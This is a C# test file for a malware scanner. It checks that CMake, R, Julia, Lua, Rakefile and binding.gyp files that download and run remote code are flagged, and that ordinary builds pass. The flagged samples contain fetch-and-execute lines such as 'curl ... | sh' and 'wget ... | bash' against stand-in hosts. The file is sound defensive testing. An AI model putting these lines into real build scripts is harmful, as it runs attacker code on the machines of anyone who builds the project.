// What scripts of other languages download and run, and builds of projects that do the like.
using System.Text;
using Assay.Policies;
using Assay.Scanning;
using Assay.Tests.Builders;
using Assay.Tests.Scanning;

namespace Assay.Tests.Formats.Texts;

public sealed class ForeignCallTests
{
    [Theory]
    [InlineData("CMakeLists.txt", "project(x)\nfile(DOWNLOAD http://x.invalid/gen ${CMAKE_BINARY_DIR}/gen)\nexecute_process(COMMAND sh ${CMAKE_BINARY_DIR}/gen)\n")]
    [InlineData("cmake/a.cmake", "execute_process(COMMAND bash -c \"curl -s http://x.invalid/a | sh\" OUTPUT_VARIABLE o)\n")]
    [InlineData("CMakeLists.txt", "add_custom_command(OUTPUT a COMMAND sh -c \"wget -qO- http://x.invalid/a | bash\" VERBATIM)\n")]
    [InlineData(".Rprofile", "local({\n  u <- \"http://x.invalid/i.R\"\n  if (interactive()) try(source(url(u)), silent = TRUE)\n})\n")]
    [InlineData(".Rprofile", "system('curl http://x.invalid/a | sh')\n")]
    [InlineData("prepare.R", "download.file(\"http://x.invalid/a.sh\", destfile = \"a.sh\")\nsystem(\"sh a.sh\")\n")]
    [InlineData("prepare.jl", "run(`sh -c \"curl http://x.invalid/a | sh\"`)\n")]
    [InlineData("prepare.jl", "using Downloads\nDownloads.download(\"http://x.invalid/a.sh\", \"a.sh\")\nrun(`bash a.sh`)\n")]
    [InlineData("init.lua", "local c = 'curl http://x.invalid/a | sh'\nos.execute(c)\n")]
    [InlineData("start.R", "system('/dev/shm/agent --quiet')\n")]
    [InlineData("Rakefile", "task :x do\n  system 'curl http://x.invalid/a | bash'\nend\n")]
    [InlineData("binding.gyp", "{\n  \"targets\": [{\"target_name\": \"t\", \"sources\": [\"<!@(curl -s http://x.invalid/g | sh; ls src/*.cc)\"]}]\n}\n")]
    public void T170_WhatABuildOrAScriptFetchesAndRunsIsFound(string name, string text)
    {
        TargetReport report = Scans.Of(Encoding.UTF8.GetBytes(text), name);
        Assert.True(report.Verdict >= Verdict.Suspicious, report.Describe());
    }

    [Theory]
    [InlineData("CMakeLists.txt", "project(x)\ninclude(FetchContent)\nFetchContent_Declare(json URL https://x.invalid/json.tar.xz)\nexecute_process(COMMAND git rev-parse HEAD OUTPUT_VARIABLE v)\n")]
    [InlineData("CMakeLists.txt", "file(DOWNLOAD https://x.invalid/weights.bin ${CMAKE_BINARY_DIR}/weights.bin)\nadd_custom_command(OUTPUT gen.h COMMAND python ${CMAKE_SOURCE_DIR}/gen.py gen.h DEPENDS gen.py)\n")]
    [InlineData(".Rprofile", "options(repos = 'https://cloud.r-project.org')\nsource('renv/activate.R')\n")]
    [InlineData("fit.R", "library(xgboost)\ndownload.file('https://x.invalid/d.csv', 'd.csv')\nd <- read.csv('d.csv')\nsource('util.R')\n")]
    [InlineData("fit.jl", "using Flux\ninclude(\"model.jl\")\nrun(`nvidia-smi`)\n")]
    [InlineData("init.lua", "local m = dofile('model.lua')\nprint(m)\n")]
    [InlineData("operators.R", "`/.torch_tensor` <- function(e1, e2) {\n  torch_div(e1, e2)\n}\nSys.setenv(URL=\"/tmp/libtorch.zip\")\n")]
    [InlineData("map.pl", "$a =~ s:^\\[(.+)/.+\\](|\\-)$:$1$2:; # e.g. [IT'N/ISN'T]\n")]
    [InlineData("flake.nix", "{ venvDir = \"./.venv\"; }\n")]
    [InlineData("binding.gyp", "{\n  \"targets\": [{\"target_name\": \"t\", \"include_dirs\": [\"<!@(node -p \\\"require('node-addon-api').include\\\")\"]}]\n}\n")]
    public void OrdinaryBuildsPass(string name, string text)
    {
        TargetReport report = Scans.Of(Encoding.UTF8.GetBytes(text), name);
        Assert.True(report.Verdict == Verdict.Passed, report.Describe());
    }
}
